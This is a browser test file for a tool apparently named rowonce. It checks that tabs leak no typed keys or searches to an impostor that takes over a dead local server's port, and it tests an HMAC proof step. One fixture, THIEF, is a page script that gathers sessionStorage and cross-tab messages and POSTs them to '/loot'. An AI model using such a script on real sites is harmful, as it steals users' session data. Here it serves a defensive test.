/**
 * Goal: a tab whose server has died sends nothing that was typed to who listens there now, and says how to go on.
 * Method: a real Chromium; a stranger takes both addresses of a `rowonce serve` that was killed, or answers in its place while
 * the tab's stream is still there, and notes all that it is sent.
 */
import { createHmac } from 'node:crypto';
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { join } from 'node:path';
import { text as bodyOf } from 'node:stream/consumers';
import type { Browser, BrowserContextOptions, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest';
import { text } from '../../src/web/page/text.ts';
import { rowonce } from '../cli/rowonce.ts';
import { proof } from '../combinations.ts';
import { openTab } from './browser.ts';
import { openCable } from './cable.ts';
import { openBrowser } from './chromium.ts';
import { environmentIn, Served } from './served.ts';

const KEY = 'a-key-that-nobody-sees';
const NONCE = 'n'.repeat(43);

let browser: Browser;
beforeAll(async () => {
  browser = await openBrowser();
});
afterAll(() => browser?.close());

/** What a stranger was sent: the line, what came with it as a token, and the body. */
interface Sent {
  readonly line: string;
  readonly token: string | undefined;
  readonly body: string;
}

/** Agrees to everything that it is asked, and notes it. */
function strangerIn(sent: Sent[]) {
  return async (asked: IncomingMessage, answered: ServerResponse): Promise<void> => {
    const { pathname } = new URL(asked.url ?? '', 'http://127.0.0.1');
    const body = await bodyOf(asked);
    sent.push({ line: `${asked.method} ${pathname}`, token: asked.headers.authorization, body });
    answered.setHeader('content-type', 'application/json').end(`{"proof":"${NONCE}","token":"x"}`);
  };
}

/** Takes the place of a server that has ended. @param page what it shows there; left out: nothing. */
async function strangerAt(port: number, page?: string): Promise<readonly Sent[]> {
  const sent: Sent[] = [];
  const answer = strangerIn(sent);
  for (const host of ['127.0.0.1', '::1']) {
    const stranger = createServer((asked, answered) => {
      if (page === undefined || asked.url !== '/') return void answer(asked, answered);
      answered.setHeader('content-type', 'text/html').end(page);
    }).listen(port, host);
    // Where there is no IPv6, nobody is there either.
    await once(stranger, 'listening').catch((error) =>
      expect(error.code).toMatch(/EADDRNOTAVAIL|EAFNOSUPPORT/),
    );
    onTestFinished(() => {
      stranger.closeAllConnections();
      stranger.close();
    });
  }
  return sent;
}

/** A tab in which an account was typed, and not sent yet. */
async function typedAccount(served: Served, options: BrowserContextOptions = {}): Promise<Page> {
  const page = await openTab(browser, served, { path: '/accounts', ...options });
  onTestFinished(() => page.context().close());
  await page.getByRole('button', { name: text.accounts.add }).click();
  await page.fill('input[name=name]', 'data');
  await page.fill('input[name=base_url]', 'https://api.example.com');
  await page.fill('input[name=key]', KEY);
  return page;
}

test('a key that was typed is not sent to who took the place of the server, and the tab says how to go on', async () => {
  const served = await Served.start();
  const page = await typedAccount(served);
  await served.stop('SIGKILL');
  await page.getByText(text.reconnecting).waitFor();
  // Nobody is there yet, and the forms are shut.
  expect(await page.locator('input[name=key]').isDisabled()).toBe(true);
  expect(await page.locator('button[type=submit]').isDisabled()).toBe(true);
  const sent = await strangerAt(served.port);
  await page.getByText('rowonce serve').waitFor();
  expect(await page.locator('input').count()).toBe(0);
  expect(sent.map(({ line, token }) => [line, token])).toEqual([['POST /api/proof', undefined]]);
  expect(JSON.parse(sent[0]?.body ?? '')).toEqual({ nonce: expect.stringMatching(/^[\w-]{43}$/) });
  await served[Symbol.asyncDispose]();
});

proof(
  'a key is sent to who proves to be the server just before, also while the stream is there',
  async () => {
    await using served = await Served.start();
    const cable = await openCable();
    const page = await typedAccount(served, { proxy: cable.proxy });
    await cable.joined();
    const sent: Sent[] = [];
    cable.instead = strangerIn(sent);
    await page.locator('button[type=submit]').click();
    await page.getByText('rowonce serve').waitFor();
    expect(sent.map(({ line }) => line)).toEqual(['POST /api/proof']);
    expect(JSON.stringify(sent)).not.toContain(KEY);
  },
);

proof('the forms are open again when the server has proved itself, with what was typed', async () => {
  await using served = await Served.start();
  const cable = await openCable();
  const page = await typedAccount(served, { proxy: cable.proxy });
  cable.set(true);
  await page.getByText(text.reconnecting).waitFor();
  expect(await page.locator('input[name=key]').isDisabled()).toBe(true);
  cable.set(false);
  await page.getByText(text.reconnecting).waitFor({ state: 'detached', timeout: 30_000 });
  expect(await page.inputValue('input[name=key]')).toBe(KEY);
  await page.locator('button[type=submit]').click();
  await page.getByText('https://api.example.com').first().waitFor();
});

proof.each([
  ['about whom it is asked', '/history', text.history.search.go],
  ['by what lists are found', '/', undefined],
])('%s is sent to nobody else either, also while the stream is there', async (_, path, button) => {
  await using served = await Served.start();
  const cwd = served.folder;
  writeFileSync(join(cwd, 'list.csv'), 'Domain\na.example\n');
  const play = ['run', 'enrich-company', 'list.csv', '--account', 'sandbox-provider'];
  expect(await rowonce(play, { cwd, env: environmentIn(cwd) })).toMatchObject({ code: 0 });
  const cable = await openCable();
  const page = await openTab(browser, served, { path, proxy: cable.proxy });
  onTestFinished(() => page.context().close());
  const field = page.getByRole('searchbox').first();
  await cable.joined();
  const sent: Sent[] = [];
  cable.instead = strangerIn(sent);
  await field.fill('jane@example.com');
  if (button !== undefined) await page.getByRole('button', { name: button }).click();
  await page.getByText('rowonce serve').waitFor();
  expect(sent.map(({ line }) => line)).toEqual(['POST /api/proof']);
});

proof(
  'a tab that is loaded anew from who took the place of the server has nothing by which that could prove to be the server',
  async () => {
    const served = await Served.start();
    const page = await typedAccount(served);
    const other = await page.context().newPage();
    await other.goto(served.url);
    await other.getByRole('link', { name: text.nav.history }).waitFor();
    await served.stop('SIGKILL');
    await page.getByText(text.reconnecting).waitFor();
    await other.getByText(text.reconnecting).waitFor();
    const sent = await strangerAt(served.port, THIEF);
    await other.goto(served.url);
    await expect.poll(() => sent.find(({ line }) => line === 'POST /loot')?.body).toBeDefined();
    expect(sent.find(({ line }) => line === 'POST /loot')?.body).toBe('{"kept":{},"told":[]}');
    await served[Symbol.asyncDispose]();
  },
);

/** Takes what a tab of this address keeps, and what its other tabs tell to whom they take for one of them. */
const THIEF = `<!doctype html><script>
  const told = [];
  const channel = new BroadcastChannel('rowonce-tabs');
  channel.onmessage = ({ data }) => told.push(data);
  channel.postMessage({ ask: true });
  const loot = () => JSON.stringify({ kept: { ...sessionStorage }, told });
  setTimeout(() => fetch('/loot', { method: 'POST', body: loot() }), 500);
</script>`;

test('the proof is an HMAC of what was asked, under a key that came with the token alone', async () => {
  await using served = await Served.start();
  const { token, proof_key } = JSON.parse((await served.enter(served.word)).body);
  const prove = (headers: object, nonce = NONCE) =>
    served.ask('/api/proof', { method: 'POST', headers: { ...headers }, body: JSON.stringify({ nonce }) });
  const { status, body } = await prove(served.ofPage);
  const proof = createHmac('sha256', proof_key).update(`rowonce-proof:${NONCE}`).digest('base64url');
  expect([status, JSON.parse(body)]).toEqual([200, { proof }]);
  expect(proof_key).not.toBe(token);
  expect((await prove({ ...served.ofPage, 'sec-fetch-site': 'same-site' })).status).toBe(403);
  expect((await prove({})).status).toBe(403);
  for (const nonce of ['', 'short', `${NONCE}n`])
    expect((await prove(served.ofPage, nonce)).status).toBe(400);
});
